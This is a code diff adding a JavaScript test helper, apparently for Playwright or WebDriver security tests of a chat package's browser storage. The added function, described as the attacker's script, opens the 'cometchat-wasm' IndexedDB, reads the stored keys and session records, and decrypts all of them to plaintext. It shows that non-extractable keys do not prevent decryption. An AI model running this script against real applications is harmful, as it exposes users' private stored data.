@@ -128,3 +128,27 @@ export function occurrences(bytes, token) {
   for (const form of forms) for (let i = hay.indexOf(form); i !== -1; i = hay.indexOf(form, i + 1)) n++;
   return n;
 }
+
+/**
+ * The attacker's script, run in a page (a self-contained function, for Playwright and WebDriver
+ * alike): every record the package stored, decrypted with the key it stored beside them
+ * (non-extractable stops `exportKey`, not `decrypt`), as text; and how many records there are.
+ */
+export const DECRYPT_ALL = async (app) => {
+  const db = await new Promise((ok, fail) => Object.assign(indexedDB.open("cometchat-wasm"), { onsuccess: (e) => ok(e.target.result), onerror: fail }));
+  const all = (name) =>
+    new Promise((ok) => {
+      if (!db.objectStoreNames.contains(name)) return ok([]);
+      const r = db.transaction(name).objectStore(name).getAll();
+      r.onsuccess = () => ok(r.result);
+    });
+  const [keys, sessions] = [await all("keys"), await all("sessions")];
+  db.close();
+  const plain = [];
+  for (const key of keys)
+    for (const s of sessions)
+      await crypto.subtle
+        .decrypt({ name: "AES-GCM", iv: s.iv, additionalData: new TextEncoder().encode(app) }, key, s.data)
+        .then((p) => plain.push(new TextDecoder().decode(p)), () => {});
+  return { records: sessions.length, plain };
+};
